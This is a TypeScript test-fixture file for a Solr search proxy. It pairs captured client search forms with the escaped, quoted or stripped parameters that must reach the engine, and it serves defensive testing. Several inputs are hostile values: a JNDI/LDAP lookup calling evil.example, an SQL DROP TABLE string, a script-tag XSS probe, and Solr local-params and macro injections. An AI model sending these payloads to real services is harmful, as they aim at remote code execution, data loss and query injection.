/** Search forms that old and new clients really send, and what each must put before the engine. */

// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what visitors may type, macro syntax of Solr included.

export interface Benign {
  name: string;
  form: string;
  /** Pairs that must stand in the request to the engine. */
  sends?: readonly string[];
  /** Parameters that must not stand there. */
  omits?: readonly string[];
}

const e = encodeURIComponent;
const fq = (value: string): string => `fq=${e(value)}&fq=index_id:rci`;
const q = (value: string): string => `q=${e(value)}&fq=index_id:rci`;

/** Filters and the filter the engine gets. */
const FILTERS: readonly (readonly [string, string])[] = [
  ['ss_town:Duck', 'ss_town:"Duck"'],
  ['-ss_town:Duck', '-ss_town:"Duck"'],
  ['ss_town:"Nags Head"', 'ss_town:"Nags Head"'],
  ['ss_town:"a \\"b\\" \\\\c"', 'ss_town:"a \\"b\\" \\\\c"'],
  ['ss_town:C\\D', 'ss_town:"C\\\\D"'],
  ['sm_nid$rc_core_term_location$name:"30A"', 'sm_nid$rc_core_term_location$name:"30A"'],
  ['ss_town:( Duck )', 'ss_town:("Duck")'],
  ['ss_town:(Duck)', 'ss_town:("Duck")'],
  ['ss_town:( Duck OR "Nags Head" OR Avon )', 'ss_town:("Avon" OR "Duck" OR "Nags Head")'],
  ['ss_town:( OR OR CA )', 'ss_town:("CA" OR "OR")'],
  ['ss_town:( Duck OR Duck )', 'ss_town:("Duck")'],
  ['ss_town:(Duck) OR ss_secret:(x)', 'ss_town:("Duck)" OR "ss_secret:(x")'],
  ['item_id:(1066 OR 957)', 'item_id:("1066" OR "957")'],
  ['fs_price:[100 TO 300]', 'fs_price:[100 TO 300]'],
  ['fs_price:[* TO 300]', 'fs_price:[* TO 300]'],
  ['fs_price:[-1.5 TO *]', 'fs_price:[-1.5 TO *]'],
  ['fs_price:[0.000000001 TO 999999999999999]', 'fs_price:[0.000000001 TO 999999999999999]'],
  ['fs_price:{100 TO 200}', 'fs_price:{100 TO 200}'],
  ['fs_price:[100 TO 200}', 'fs_price:[100 TO 200}'],
  ['fs_price:{-1.5 TO *}', 'fs_price:{-1.5 TO *}'],
  ['{!tag=RiotSolrWidget,fs_price}fs_price:{* TO 200]', '{!tag=RiotSolrWidget,fs_price}fs_price:{* TO 200]'],
  ['fs_price:3.0', 'fs_price:"3.0"'],
  ['-sm_amenity:[* TO *]', '-sm_amenity:[* TO *]'],
  [
    '{!tag=RiotSolrWidget,RiotSolrFacetList-ss_town}ss_town:"Duck"',
    '{!tag=RiotSolrWidget,RiotSolrFacetList-ss_town}ss_town:"Duck"',
  ],
  [
    '{!tag=RiotSolrWidget,is_rc_core_lodging_product$occ_total}is_rc_core_lodging_product$occ_total:[4 TO 14]',
    '{!tag=RiotSolrWidget,is_rc_core_lodging_product$occ_total}is_rc_core_lodging_product$occ_total:[4 TO 14]',
  ],
  [
    '{!tag=RCRiotAvailFilter,RiotSolrWidget,RCRiotPrices}item_id:(1066 OR 957)',
    '{!tag=RCRiotAvailFilter,RiotSolrWidget,RCRiotPrices}item_id:("1066" OR "957")',
  ],
  // What looks like an operator is a value like any other.
  ['ss_town:OR', 'ss_town:"OR"'],
  ['ss_town:a*', 'ss_town:"a*"'],
  // A star alone asks for any value, as it does of Solr; in quotes, and in a list, it is one.
  ['ss_town:*', 'ss_town:[* TO *]'],
  ['-ss_town:*', '-ss_town:[* TO *]'],
  ['ss_town:"*"', 'ss_town:"*"'],
  ['ss_town:( * OR Duck )', 'ss_town:("*" OR "Duck")'],
  ['ss_town:Washer(s)', 'ss_town:"Washer(s)"'],
  ['ss_town:-x', 'ss_town:"-x"'],
  ['ss_town:10:30', 'ss_town:"10:30"'],
  ['ss_town:100%', 'ss_town:"100%"'],
  ['ss_town:/re.*/', 'ss_town:"/re.*/"'],
  ['ss_town:Duck~2^9', 'ss_town:"Duck~2^9"'],
  ['ss_town:a"b', 'ss_town:"a\\"b"'],
  ['ss_town:été', 'ss_town:"été"'],
  ['ss_town:🏖', 'ss_town:"🏖"'],
  ['ss_town:$x', 'ss_town:"$x"'],
  ['ss_town:__proto__', 'ss_town:"__proto__"'],
  ['ss_town:"[1 TO 5]"', 'ss_town:"[1 TO 5]"'],
  ['ss_town:"{x}"', 'ss_town:"{x}"'],
  ['ss_bundle:rental', 'ss_bundle:"rental"'],
  ['id:( maqfd5-rci-1 OR maqfd5-rci-2 )', 'id:("maqfd5-rci-1" OR "maqfd5-rci-2")'],
  ['{!dismax qf=tm_body}ocean', '{!dismax qf=tm_body v=$words0}'],
  ['{!dismax qf=ts_name}ocean  front ', '{!dismax qf=ts_name v=$words0}'],
  ['{!tag=a dismax qf=tm_keywords}x', '{!tag=a dismax qf=tm_keywords v=$words0}'],
];

/** Words and what edismax gets of them. */
const WORDS: readonly (readonly [string, string])[] = [
  ['lake', 'lake'],
  ['  lake   cabin ', 'lake cabin'],
  ['bed & breakfast', 'bed breakfast'],
  ['AND', 'and'],
  ['cats AND dogs OR NOT birds', 'cats and dogs or not birds'],
  ['"hot tub" pool', '"hot tub" pool'],
  ['say "hi', 'say hi'],
  ['"" lake', 'lake'],
  ['-pool +spa', '\\-pool \\+spa'],
  ['http://e.x/a?b=c', 'http\\:\\/\\/e.x\\/a\\?b=c'],
  ['ss_secret:4711', 'ss_secret\\:4711'],
  ['*:lake', '\\*\\:lake'],
  ['lak* ?ake cabn~2 lake^9', 'lak\\* \\?ake cabn\\~2 lake\\^9'],
  ['(a OR b) [1 TO 2] {c}', '\\(a or b\\) \\[1 TO 2\\] \\{c\\}'],
  ['{!lucene}x', '\\{\\!lucene\\}x'],
  ['{!func v=ms(NOW)}', '\\{\\!func v=ms\\(NOW\\)\\}'],
  ['x {!lucene v=$fq}', 'x \\{\\!lucene v=$fq\\}'],
  ['"{!lucene}x"', '"\\{\\!lucene\\}x"'],
  ['${q}', '\\$\\{q\\}'],
  ['"${q:a}"', '"\\$\\{q\\:a\\}"'],
  ['\\${q}', '\\\\\\$\\{q\\}'],
  ['_query_:"{!lucene}x"', '_query_\\: "\\{\\!lucene\\}x"'],
  ['a\\', 'a\\\\'],
  ['/re.*/', '\\/re.*\\/'.replace('*', '\\*')],
  ['a && b || c ! d', 'a b c d'],
  ['<script>alert(1)</script>', '<script>alert\\(1\\)<\\/script>'],
  ["'; DROP TABLE x; --", 'DROP TABLE x;'],
  ['${jndi:ldap://evil.example/a}', '\\$\\{jndi\\:ldap\\:\\/\\/evil.example\\/a\\}'],
  ['été à la plage', 'été à la plage'],
  ['海辺', '海辺'],
  ['lake 🏖 house', 'lake 🏖 house'],
  ['🏖', '🏖'],
  ['&', '\\&'],
];

/** Queries that are one whole filter. */
const CLAUSES: readonly (readonly [string, string])[] = [
  ['im_nid$rc_core_term_landing_pages$tid:"115"', 'im_nid$rc_core_term_landing_pages$tid:"115"'],
  ['id:(maqfd5-rci-1 OR maqfd5-rci-2)', 'id:("maqfd5-rci-1" OR "maqfd5-rci-2")'],
  ['id:(maqfd5-rci-1)', 'id:("maqfd5-rci-1")'],
  ['ss_town:"Nags Head"', 'ss_town:"Nags Head"'],
  ['fs_price:[1 TO 2]', 'fs_price:[1 TO 2]'],
];

const CAPTURED: readonly Benign[] = [
  {
    name: 'the documents request as captured',
    form: `ids=${Array.from({ length: 69 }, (_, at) => `maqfd5-rci-${at + 1}`).join(',')}&wt=json&json.wrf=jQuery1102012345_1600000000000&fq=index_id:rci`,
    sends: [`q={!terms f=id}${Array.from({ length: 69 }, (_, at) => `maqfd5-rci-${at + 1}`).join(',')}`, 'rows=69'],
  },
  {
    name: 'the search request of §7.1',
    form: 'fl=id&facet=true&rows=200&facet.mincount=1&json.nl=map&q=*%3A*&facet.field=%7B!ex%3DRiotSolrFacetList-ss_town%7Dss_town&fq=%7B!tag%3DRiotSolrWidget%2CRiotSolrFacetList-ss_town%7Dss_town%3A(%20Duck%20OR%20Avon%20)&wt=json&json.wrf=cb1&fq=index_id:rci',
    sends: [
      'rows=200',
      'facet.field={!ex=RiotSolrFacetList-ss_town}ss_town',
      'fq=index_id:"rci"',
      'fl=id,index_id,ss_bundle',
    ],
    omits: ['q', 'json.wrf'],
  },
  {
    name: 'an AjaxSolr client: everything in one field',
    form: `query=${e('q=*%3A*&rows=5&fq=ss_town%3A%22Nags%20Head%22&fq=index_id:rci&wt=json')}`,
    sends: ['rows=5', 'fq=ss_town:"Nags Head"'],
  },
  {
    name: 'autocomplete as §7.4 sends it',
    form: 'json.nl=arrarr&q=*:*&rows=0&facet=true&facet.mincount=1&fq=%7B!dismax%20qf%3Dtm_keywords%7Docean&facet.field=tm_keywords&facet.limit=10&facet.prefix=fr&wt=json&json.wrf=?&fq=index_id:rci',
    sends: ['rows=0', 'facet.field=tm_keywords', 'facet.limit=10', 'facet.prefix=fr', 'words0=ocean'],
  },
  {
    name: 'autocomplete with a leading space: words without a word limit nothing',
    form: 'q=*:*&rows=0&facet=true&fq=%7B!dismax%20qf%3Dtm_keywords%7D&facet.field=tm_keywords&fq=index_id:rci',
    omits: ['words0'],
  },
  {
    name: 'the default boost',
    form: `q=&boost=${e('recip(ms(NOW,ds_listed),3.16e-11,1,1)')}&defType=edismax&fq=index_id:rci`,
    sends: ['boost=recip(ms(NOW,ds_listed),3.16e-11,1,1)', 'defType=edismax'],
  },
  {
    name: 'a boost query',
    form: `bq=${e('ss_town:"Nags Head"^2.5')}&bq=${e('ss_town:Duck')}&fq=index_id:rci`,
    sends: ['bq=ss_town:"Nags Head"^2.5', 'bq=ss_town:"Duck"'],
  },
  {
    name: 'a boost query whose value holds what looks like a weight: in quotes it is none',
    form: `bq=${e('ss_town:"Duck^9"')}&bq=${e('ss_town:( "a^1e9" OR b )^3')}&fq=index_id:rci`,
    sends: ['bq=ss_town:"Duck^9"', 'bq=ss_town:("a^1e9" OR "b")^3'],
  },
  {
    name: "a block's own parameters, whatever they are",
    form: `hl.method=unified&sort=${e('sub(is_reviews,1) desc')}&fq=index_id:rci`,
    sends: ['hl.method=unified', 'sort=sub(is_reviews,1) desc'],
  },
  {
    name: 'a custom exposed parameter is accepted and never used',
    form: `rcav=${e('{"begin":"2026-05-01","nights":7}')}&q=*:*&fq=index_id:rci`,
    omits: ['rcav'],
  },
  {
    name: 'a range widget: bounds from stats',
    form: `stats=true&stats.field=${e('{!ex=RiotSolrWidget}fs_price')}&stats.field=${e('{!ex=RiotSolrWidget}is_rc_core_lodging_product$occ_total')}&fq=index_id:rci`,
    sends: ['stats=true', 'stats.field={!ex=RiotSolrWidget}fs_price'],
  },
  {
    name: 'a facet without limit gets the most we give',
    form: `facet=true&facet.field=sm_amenity&f.sm_amenity.facet.limit=-1&f.sm_amenity.facet.missing=true&facet.limit=9999&fq=index_id:rci`,
    sends: ['f.sm_amenity.facet.limit=500', 'f.sm_amenity.facet.missing=true', 'facet.limit=500'],
  },
  { name: 'more rows than the site allows', form: 'rows=100000&fq=index_id:rci', sends: ['rows=300'] },
  {
    name: 'sorts',
    form: `sort=${e('fs_price asc, score desc,random_42 asc')}&fq=index_id:rci`,
    sends: ['sort=fs_price asc,score desc,random_42 asc'],
  },
  {
    name: 'fields',
    form: 'fl=ss_name,ss_url score&fq=index_id:rci',
    sends: ['fl=id,ss_name,ss_url,score,index_id,ss_bundle'],
  },
  {
    name: 'what AjaxSolr clients send besides: left out, whatever it holds',
    form: `q=lake&hl=true&hl.fl=ts_name&hl.fl=ss_secret&hl.simple.pre=${e('<b>')}&hl.q=${e('{!xmlparser}x')}&facet=true&facet.date=ds_listed&facet.date.start=${e('NOW/DAY')}&facet.range=fs_rating&f.ds_listed.facet.date.gap=%2B1DAY&indent=on&version=2.2&fq=index_id:rci`,
    sends: ['q=lake', 'facet=true'],
    omits: ['hl', 'hl.fl', 'hl.q', 'facet.date', 'facet.range', 'f.ds_listed.facet.date.gap', 'indent', 'version'],
  },
  {
    name: 'the order of facets in the words of Solr 1.3',
    form: 'facet=true&facet.field=ss_town&facet.sort=true&f.ss_town.facet.sort=false&fq=index_id:rci',
    sends: ['facet.sort=count', 'f.ss_town.facet.sort=index'],
  },
  { name: 'an empty form', form: '', sends: ['rows=10', 'start=0', 'fl=id,index_id,ss_bundle'] },
  {
    name: 'no index: all of them, each with its own terms',
    form: 'q=lake',
    sends: [
      'fq=(index_id:"rci" AND ss_entity_type:("node") AND ss_bundle:("rental") AND -bs_hidden:("true")) OR (index_id:"other")',
    ],
  },
  {
    name: 'another index',
    form: 'fq=index_id:other&fq=ss_other:yes',
    sends: ['fq=index_id:"other"', 'fq=ss_other:"yes"'],
  },
  { name: 'a leading &', form: '&q=lake&fq=index_id:rci', sends: ['q=lake'] },
  { name: 'pasted lines', form: 'q=lake%0D%0Acabin&fq=index_id:rci', sends: ['q=lake cabin'] },
  {
    name: 'switched off',
    form: 'facet=false&facet.field=ss_town&stats=false&stats.field=fs_price&fq=index_id:rci',
    omits: ['facet', 'facet.field', 'stats.field'],
  },
];

/** Set on every request to the engine. */
export const ALWAYS_SENT = [
  'wt=json',
  'json.nl=arrarr',
  'echoParams=none',
  'expandMacros=false',
  'omitHeader=false',
  'timeAllowed=2000',
];

export const BENIGN: readonly Benign[] = [
  ...CAPTURED,
  ...FILTERS.map(([value, sent]): Benign => ({ name: `fq ${value}`, form: fq(value), sends: [`fq=${sent}`] })),
  ...WORDS.map(([value, sent]): Benign => ({ name: `q ${value}`, form: q(value), sends: [`q=${sent}`] })),
  ...CLAUSES.map(
    ([value, sent]): Benign => ({ name: `q ${value}`, form: q(value), sends: [`fq=${sent}`], omits: ['q'] }),
  ),
];
